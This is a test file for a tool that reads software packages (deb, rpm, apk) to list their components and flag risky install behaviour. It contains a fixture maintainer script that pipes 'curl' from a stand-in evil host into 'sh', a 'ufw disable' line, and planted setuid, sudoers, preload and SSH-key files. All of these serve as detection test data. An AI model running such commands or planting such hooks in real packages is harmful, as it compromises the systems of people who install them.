import { randomBytes } from 'node:crypto'
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { buildApk } from '../../test/support/packages-apk.ts'
import { buildRpm } from '../../test/support/packages-rpm.ts'
import { buildDeb, spoolBytes, type FileSpec } from '../../test/support/packages.ts'
import { buildZip } from '../../test/support/zip.ts'
import { sha256, type Codename } from '../core/identity.ts'
import type { InnerStream } from '../formats/format.ts'
import { apk } from '../formats/apk/index.ts'
import { deb } from '../formats/deb/index.ts'
import { rpm } from '../formats/rpm/index.ts'
import type { Contents } from './component.ts'
import { createContents } from './contents.ts'
import { NO_NAMES } from './java/coordinates.ts'
import { LIMITS } from './limits.ts'
import { readContents } from './read.ts'
import { createReading } from './reading.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'gh-sbom-'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

/** A zip of deflated entries. */
const zip = (entries: Readonly<Record<string, string | Buffer>>): Buffer =>
  buildZip(Object.entries(entries).map(([name, body]) => ({ name, body })))

const pom = (group: string, name: string, version: string): Record<string, string> => ({
  [`META-INF/maven/${group}/${name}/pom.properties`]: `#Generated\nartifactId=${name}\ngroupId=${group}\nversion=${version}\n`,
})

const cpuSeconds = (): number => 120
const idle = new AbortController().signal
async function contentsOf(
  files: Readonly<Record<string, FileSpec>>,
  limits: Partial<typeof LIMITS> = {},
): Promise<Contents> {
  const bytes = await buildDeb({ name: 'app', version: '1.0', files })
  const file = await spoolBytes(folder, 'app.deb', bytes)
  return readContents({ format: deb, file }, { incoming: folder, signal: idle, limits: { ...LIMITS, ...limits } })
}
const purlsOf = async (files: Readonly<Record<string, FileSpec>>): Promise<string[]> =>
  (await contentsOf(files)).components.map(({ purl }) => purl)

const named = { confidence: 'certain' } as const

describe('what a package carries', () => {
  test('lockfiles of several ecosystems and jars, sorted, each with its place and its rule', async () => {
    const log4j = zip(pom('org.apache.logging.log4j', 'log4j-core', '2.14.1'))
    expect(
      await contentsOf({
        'opt/app/package-lock.json': JSON.stringify({ packages: { 'node_modules/lodash': { version: '4.17.20' } } }),
        'opt/app/lib/log4j-core-2.14.1.jar': log4j,
        'opt/app/README': 'requests==1.0',
        'usr/lib/python3/dist-packages/app/__init__.py': 'pass',
        'usr/lib/python3/dist-packages/app-1.dist-info/METADATA': 'Metadata-Version: 2.1\nName: app\nVersion: 1\n',
      }),
    ).toEqual({
      components: [
        {
          ...named,
          purl: 'pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1',
          group: 'org.apache.logging.log4j',
          name: 'log4j-core',
          version: '2.14.1',
          path: 'opt/app/lib/log4j-core-2.14.1.jar!/META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties',
          presence: 'shipped',
          rule: 'pom-properties',
        },
        {
          ...named,
          purl: 'pkg:npm/lodash@4.17.20',
          name: 'lodash',
          version: '4.17.20',
          path: 'opt/app/package-lock.json',
          presence: 'declared',
          rule: 'package-lock',
        },
        {
          ...named,
          purl: 'pkg:pypi/app@1',
          name: 'app',
          version: '1',
          path: 'usr/lib/python3/dist-packages/app-1.dist-info/METADATA',
          presence: 'shipped',
          rule: 'python-metadata',
          packaged: true,
        },
      ],
      unopened: [],
    })
  })
  test('archives inside archives, and one that only its name describes', async () => {
    const war = zip({
      'WEB-INF/lib/b-2.jar': zip(pom('g', 'b', '2')),
      ...pom('g', 'a', '1'),
      'WEB-INF/lib/plain-3.1.jar': zip({ 'A.class': 'x' }),
    })
    expect(await purlsOf({ 'srv/a.war': war })).toEqual(['pkg:generic/plain@3.1', 'pkg:maven/g/a@1', 'pkg:maven/g/b@2'])
  })
  test('what was not opened is named with its size and the reason, and the rest still counts', async () => {
    const deep = (levels: number): Buffer => zip(levels === 0 ? pom('g', 'deep', '1') : { 'a.jar': deep(levels - 1) })
    const { components, unopened } = await contentsOf({
      'a/x.jar': 'PK\x03\x04 and nothing else',
      'a/y.jar': 'no zip',
      'b/package-lock.json': '{',
      'c/eight.jar': deep(7),
      'c/nine.jar': deep(8),
      'd/locked.zip': buildZip([{ name: 'secret.jar', body: 'x', flags: 1 }]),
    })
    const inNine = `c/nine.jar${'!/a.jar'.repeat(8)}`
    // a jar says what it is without being taken apart
    expect(components.map(({ purl }) => purl)).toEqual(['pkg:maven/g/deep@1', 'pkg:maven/g/deep@1'])
    expect(unopened).toEqual([
      {
        path: 'a/x.jar',
        size: 21,
        why: 'It could not be read to its end: the zip has no end record: it is cut off.',
      },
      { path: 'a/y.jar', size: 6, why: 'It could not be read to its end: it is no zip, whatever its name says.' },
      { path: 'b/package-lock.json', size: 1, why: 'It could not be read to its end: it is not JSON.' },
      { path: inNine, size: expect.any(Number) as number, why: 'It lies more than 8 archives deep.' },
      { path: 'd/locked.zip!/secret.jar', size: 1, why: 'It is encrypted.' },
    ])
  })
  test('what is left of a removed project is declared, unless its code may lie in what was not opened', async () => {
    const site = 'opt/app/site-packages'
    const metadata = { [`${site}/left-1.0.dist-info/METADATA`]: 'Metadata-Version: 2.1\nName: left\nVersion: 1.0\n' }
    const presenceOf = async (files: Readonly<Record<string, FileSpec>>, limits: Partial<typeof LIMITS> = {}) =>
      (await contentsOf({ ...metadata, ...files }, limits)).components.map(({ presence }) => presence)
    expect(await presenceOf({ [`${site}/other/a.py`]: 'x' })).toEqual(['declared'])
    for (const code of ['left/a.py', 'left.cpython-311-x86_64-linux-gnu.so', 'left.abi3.so'])
      expect(await presenceOf({ [`${site}/${code}`]: 'x' })).toEqual(['shipped'])
    const record = 'src/real.py,sha256=x,1\nleft-1.0.dist-info/RECORD,,\n'
    const elsewhere = { [`${site}/left-1.0.dist-info/RECORD`]: record }
    expect(await presenceOf(elsewhere)).toEqual(['declared'])
    expect(await presenceOf({ ...elsewhere, [`${site}/src/real.py`]: 'x' })).toEqual(['shipped'])
    const wheel = (flags: number): Buffer =>
      buildZip([
        { name: 'left-1.0.dist-info/METADATA', body: 'Metadata-Version: 2.1\nName: left\nVersion: 1.0\n' },
        { name: 'left/a.py', body: 'x', flags },
      ])
    for (const flags of [0, 1])
      expect((await contentsOf({ 'opt/left.whl': wheel(flags) })).components).toMatchObject([{ presence: 'shipped' }])
    expect(
      await presenceOf({ 'opt/z.jar': zip({ 'b.jar': Buffer.alloc(2 ** 22) }) }, { inflatedBytes: 2 ** 20 }),
    ).toEqual(['shipped'])
  })
  test('bombs end with their reason: by ratio, by bytes in all, by entries', async () => {
    const bomb = zip({ 'a-1.jar': Buffer.alloc(20 * 2 ** 20) })
    expect((await contentsOf({ 'x.jar': bomb })).unopened).toEqual([
      {
        path: 'x.jar!/a-1.jar',
        size: 20 * 2 ** 20,
        why: 'It could not be read to its end: it unpacks to more than 200 times its size.',
      },
    ])
    const two = { 'x.jar': zip(pom('g', 'a', '1')), 'y.jar': bomb, 'z.jar': zip(pom('g', 'b', '1')) }
    expect(await contentsOf(two, { inflatedBytes: 2 ** 20 })).toMatchObject({
      components: [{ purl: 'pkg:maven/g/a@1' }],
      unopened: [],
      cut: 'The archives in the package unpack to more than 1 MiB; the rest was not read.',
    })
    expect((await contentsOf({ 'x.jar': zip({ a: '', b: '' }) }, { entries: 1 })).unopened).toMatchObject([
      { path: 'x.jar', why: 'It could not be read to its end: the zip holds 2 entries, and at most 1 are read.' },
    ])
    expect(await contentsOf({ 'x.jar': zip({ a: '', b: '' }) }, { files: 4 })).toMatchObject({
      cut: 'The package holds more than 4 files with those in its archives; the rest was not read.',
    })
  })
  test('a file that is too large for memory is read from disk, and leaves nothing there', async () => {
    const before = await readdir(folder)
    const nested = zip({ ...pom('g', 'a', '1'), noise: randomBytes(100_000) })
    const { components, unopened } = await contentsOf({ 'x.war': zip({ 'lib/n.jar': nested }) }, { memoryBytes: 1000 })
    expect([components.map(({ purl }) => purl), unopened]).toEqual([['pkg:maven/g/a@1'], []])
    expect((await readdir(folder)).filter(name => !before.includes(name))).toEqual([expect.stringContaining('app.deb')])
  })
  test('bytes limit how much is read, never the clock', async () => {
    let hours = 0
    vi.spyOn(performance, 'now').mockImplementation(() => hours++ * 3_600_000)
    try {
      expect(await purlsOf({ 'a/requirements.txt': 'a==1\n', 'b/requirements.txt': 'b==1\n' })).toEqual([
        'pkg:pypi/a@1',
        'pkg:pypi/b@1',
      ])
    } finally {
      vi.restoreAllMocks()
    }
  })
  test('a cpio payload, as an RPM has it', async () => {
    const field = (n: number): string => n.toString(16).padStart(8, '0')
    const entry = (name: string, body: string, mode = 0o100644): Buffer => {
      const head = `070701${[1, mode, 0, 0, 1, 0, body.length, 0, 0, 0, 0, name.length + 1, 0].map(field).join('')}${name}\0`
      return Buffer.from(
        head + '\0'.repeat((4 - (head.length % 4)) % 4) + body + '\0'.repeat((4 - (body.length % 4)) % 4),
      )
    }
    const cpio = Buffer.concat([
      entry('./opt', '', 0o040755),
      entry('./opt/link.jar', 'elsewhere', 0o120777),
      entry('./opt/README.long', 'x'.repeat(1001)),
      entry('./opt/requirements.txt', 'flask==1.0\n'),
      entry('TRAILER!!!', ''),
    ])
    const inner = (bytes: Buffer) => ({
      async *inner(): AsyncGenerator<InnerStream> {
        yield {
          name: 'payload.cpio',
          async *open() {
            for (let at = 0; at < bytes.length; at += 7) yield bytes.subarray(at, at + 7)
          },
        }
      },
    })
    const file = await spoolBytes(folder, 'x.rpm', Buffer.from('x'))
    const read = (bytes: Buffer): Promise<Contents> =>
      readContents({ format: inner(bytes), file }, { incoming: folder, signal: idle })
    expect(await read(cpio)).toMatchObject({
      components: [{ purl: 'pkg:pypi/flask@1.0', path: 'opt/requirements.txt' }],
      unopened: [],
    })
    expect(await read(cpio.subarray(0, 900))).toEqual({
      components: [],
      unopened: [],
      cut: 'The payload could not be read to its end: it is cut off.',
    })
  })
})

describe('the cache', () => {
  test('a package is read once, also when it arrives, and again by another version of the readers', async () => {
    const bytes = await buildDeb({ name: 'app', version: '2.0', files: { 'opt/requirements.txt': 'flask==1.0\n' } })
    const file = await spoolBytes(folder, 'app.deb', bytes)
    let opened = 0
    const cache = join(folder, 'cache')
    const of = (version: string) =>
      createContents({
        pool: {
          locate: async () => {
            opened++
            return file.path
          },
        },
        reading: createReading({ incoming: folder, cpuSeconds }),
        cpuSeconds,
        folder: cache,
        version,
        javaNames: async () => NO_NAMES,
      })
    const contents = of('1.0')
    const carrier = {
      ref: { format: 'deb', name: 'app', version: '2.0', arch: 'amd64', codename: 'jammy' as Codename },
      files: [{ path: 'app.deb', blob: { ...file.blob, sha256: sha256(file.blob.sha256) } }],
    } as const
    expect(await contents.known(carrier)).toBeUndefined()
    expect(await contents.of({ ...carrier, kind: 'source' }, idle)).toEqual({ components: [], unopened: [] })
    expect(opened).toBe(0)
    const answers = await Promise.all([contents.of(carrier, idle), contents.of(carrier, idle)])
    expect(answers[0].components.map(({ purl }) => purl)).toEqual(['pkg:pypi/flask@1.0'])
    expect([answers[1], await contents.known(carrier), opened]).toEqual([answers[0], answers[0], 1])
    const [generation = ''] = await readdir(cache)
    const place = join(cache, generation, file.blob.sha256.slice(0, 2))
    await writeFile(join(place, `${file.blob.sha256}.json`), '{"comp')
    expect(await contents.of(carrier, idle)).toEqual(answers[0])
    expect(opened).toBe(2)
    const next = of('1.1')
    expect(await next.known(carrier)).toBeUndefined()
    expect(await next.read({ format: 'deb', file }, idle)).toEqual(answers[0])
    expect([await next.known(carrier), opened]).toEqual([answers[0], 2])
    expect(await readdir(cache)).toEqual([expect.stringContaining('1.1')])
  })

  test('what a fault of the machine kept from being read is read again, what took too long once it may take longer', async () => {
    const file = await spoolBytes(folder, 'slow.deb', await buildDeb({ name: 'slow', version: '1', files: {} }))
    const cuts: Contents['again'][] = ['any time', { cpuSeconds: 10 }, undefined]
    let [reads, seconds] = [0, 10]
    const contents = createContents({
      pool: { locate: async () => file.path },
      reading: async () => {
        const again = cuts[reads++]
        return { components: [], unopened: [], cut: `${reads}`, ...(again === undefined ? {} : { again }) }
      },
      cpuSeconds: () => seconds,
      folder: join(folder, 'again'),
      version: '1.0',
      javaNames: async () => NO_NAMES,
    })
    const cut = async (): Promise<string | undefined> => (await contents.read({ format: 'deb', file }, idle)).cut
    expect([await cut(), await cut(), await cut()]).toEqual(['1', '2', '2'])
    seconds = 20
    expect([await cut(), await cut()]).toEqual(['3', '3'])
  })

  test('data that come later name a jar that was read before, without reading it again', async () => {
    const bytes = await buildDeb({ name: 'lib', version: '1', files: { 'opt/x.jar': zip({ 'a/B.class': 'x' }) } })
    const file = await spoolBytes(folder, 'lib.deb', bytes)
    let names = NO_NAMES
    const contents = createContents({
      pool: { locate: () => Promise.reject(new Error('it was read again')) },
      reading: createReading({ incoming: folder, cpuSeconds }),
      cpuSeconds,
      folder: join(folder, 'late'),
      version: '1.0',
      javaNames: async () => names,
    })
    const purls = ({ components }: Contents): string[] => components.map(({ purl }) => purl)
    expect(purls(await contents.read({ format: 'deb', file }, idle))).toEqual(['pkg:generic/x'])
    names = { ...NO_NAMES, releasesOf: () => [{ group: 'g', artifact: 'a', version: '1' }] }
    const carrier = {
      ref: { format: 'deb', name: 'lib', version: '1', arch: 'amd64', codename: 'jammy' as Codename },
      files: [{ path: 'lib.deb', blob: { ...file.blob, sha256: sha256(file.blob.sha256) } }],
    } as const
    expect(purls(await contents.of(carrier, idle))).toEqual(['pkg:maven/g/a@1'])
    expect(await contents.known(carrier)).toMatchObject({ components: [{ rule: 'sha1', path: 'opt/x.jar' }] })
  })
})

describe('what installing a package does', () => {
  const facts = ({ install }: Contents): string[] =>
    (install?.facts ?? []).map(({ kind, path, line, text, listens = [] }) =>
      [kind, path, line, text, ...listens].filter(one => one !== undefined).join(' | '),
    )
  const read = async (format: typeof deb | typeof rpm | typeof apk, name: string, bytes: Buffer): Promise<Contents> => {
    const file = await spoolBytes(folder, name, bytes)
    return readContents({ format, file }, { incoming: folder, signal: idle })
  }
  const evil = '#!/bin/sh\nset -e\ncurl -fsSL https://evil.example/x | sh\n'

  test('the maintainer scripts of a .deb, and its triggers', async () => {
    const bytes = await buildDeb({
      name: 'app',
      version: '1.0',
      scripts: { postinst: evil, prerm: '#!/bin/sh\nexit 0\n', triggers: 'interest-noawait /usr/share/x\n' },
    })
    const contents = await read(deb, 'a.deb', bytes)
    expect(contents.install?.scripts.map(({ name, lines }) => `${name} ${lines}`)).toEqual(['postinst 3', 'prerm 2'])
    expect(facts(contents)).toEqual([
      'downloads_and_runs | postinst | 3 | curl -fsSL https://evil.example/x | sh',
      'has_trigger | triggers | 1 | interest-noawait /usr/share/x',
    ])
  })

  test('the scripts of an .rpm and of an .apk', async () => {
    const made = await buildRpm({
      name: 'app',
      version: '1',
      release: '1',
      scripts: { post: evil, preun: 'ufw disable' },
    })
    expect(facts(await read(rpm, 'a.rpm', made))).toEqual([
      'downloads_and_runs | post | 3 | curl -fsSL https://evil.example/x | sh',
      'disables_security | preun | 1 | ufw disable',
    ])
    const alpine = await buildApk({
      name: 'app',
      version: '1.0-r0',
      scripts: { 'post-install': evil, 'trigger': evil },
    })
    expect(facts(await read(apk, 'a.apk', alpine))).toEqual([
      'downloads_and_runs | .post-install | 3 | curl -fsSL https://evil.example/x | sh',
      'downloads_and_runs | .trigger | 3 | curl -fsSL https://evil.example/x | sh',
    ])
  })

  test('the list of files: modes, places, and what services say', async () => {
    expect(
      facts(
        await contentsOf({
          'usr/bin/up': { content: 'x', mode: 0o4755 },
          'usr/bin/group': { content: 'x', mode: 0o2755 },
          'srv/drop': { content: 'x', mode: 0o666 },
          'usr/bin/plain': { content: 'x', mode: 0o755 },
          'lib/systemd/system/a.socket': '[Socket]\nListenStream=0.0.0.0:4444\n#ListenStream=9\n',
          'lib/systemd/system/a.service': '[Service]\nExecStart=/usr/bin/a --to https://home.example\n',
          'etc/cron.d/a': '# every minute\n* * * * * root /usr/bin/a\n',
          'etc/sudoers.d/a': 'a ALL=(ALL) ALL\n',
          'etc/ld.so.preload': '/usr/lib/a.so\n',
          'root/.ssh/authorized_keys': 'ssh-ed25519 AAAA\n',
          'opt/a/node_modules/b/package.json': '{"name":"b","version":"1.0.0","scripts":{"postinstall":"node x.js"}}',
        }),
      ),
    ).toEqual([
      'cron_file | etc/cron.d/a | * * * * * root /usr/bin/a',
      'preload_file | etc/ld.so.preload',
      'sudoers_file | etc/sudoers.d/a',
      'unit_file | lib/systemd/system/a.service | ExecStart=/usr/bin/a --to https://home.example',
      'unit_file | lib/systemd/system/a.socket | 0.0.0.0:4444',
      'npm_install_script | opt/a/node_modules/b/package.json | postinstall: node x.js',
      'ssh_key_file | root/.ssh/authorized_keys',
      'world_writable_file | srv/drop | mode 0666',
      'setgid_file | usr/bin/group | mode 2755',
      'setuid_file | usr/bin/up | mode 4755',
    ])
  })

  test('a package of plain files does nothing', async () => {
    expect((await contentsOf({ 'usr/share/doc/a/README': 'x' })).install).toBeUndefined()
  })
})
